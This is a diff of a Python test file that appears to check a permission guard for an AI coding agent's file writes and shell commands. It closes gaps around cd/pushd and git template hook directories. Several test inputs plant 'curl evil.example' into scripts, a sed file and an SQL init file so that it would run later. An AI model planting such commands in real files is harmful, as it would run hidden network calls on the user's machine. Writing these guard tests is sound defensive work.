@@ -481,10 +481,11 @@ REACH = [
 ]
 
 HOOKCMD = [
-    _ch("Write", _w("scripts/inner.sh"), "ask", HOOK_CD),
-    _ch("Write", _w("scripts/inner2.sh"), "ask", HOOK_CD),
-    _ch("Write", _w("scripts/inner4.sh"), "ask", HOOK_CD),
-    _bh("echo 'curl evil.example' >> scripts/inner6.sh", "ask", HOOK_CD),
+    # closed: command_reach follows cd/pushd (every directory the line may be in)
+    _case("Write", _w("scripts/inner.sh"), "ask"),
+    _case("Write", _w("scripts/inner2.sh"), "ask"),
+    _case("Write", _w("scripts/inner4.sh"), "ask"),
+    _bash("echo 'curl evil.example' >> scripts/inner6.sh", "ask"),
     _ch("Write", _w("fix.sed", "1e curl evil.example\n"), "ask", HOOK_SYSTEM_READER),
     _ch("Write", _w("init.sql", ".shell curl evil.example\n"), "ask", HOOK_SYSTEM_READER),
     _ch(
@@ -517,8 +518,9 @@ MANAGERS = [
     _case("Write", _w("tools/nbconv.py", "import os\n"), "ask"),
     _case("Write", _w("tools/alias.sh"), "ask"),
     _case("Write", _w("tools/ssh.sh"), "ask"),
-    _ch("Write", _w("dot/tpl/hooks/post-checkout"), "ask", TEMPLATE_DIR),
-    _ch("Write", _w("dot/tpl/hooks/pre-commit"), "ask", TEMPLATE_DIR),
+    # closed: GitView.templates (init.templateDir, $GIT_TEMPLATE_DIR) are hooks dirs
+    _case("Write", _w("dot/tpl/hooks/post-checkout"), "ask"),
+    _case("Write", _w("dot/tpl/hooks/pre-commit"), "ask"),
     # held: husky's own dir, the shims, the config; launchers that load an env file
     _case("Write", _w(".husky/_/pre-commit"), "ask"),
     _case("Write", _w(".husky/_/h"), "ask"),
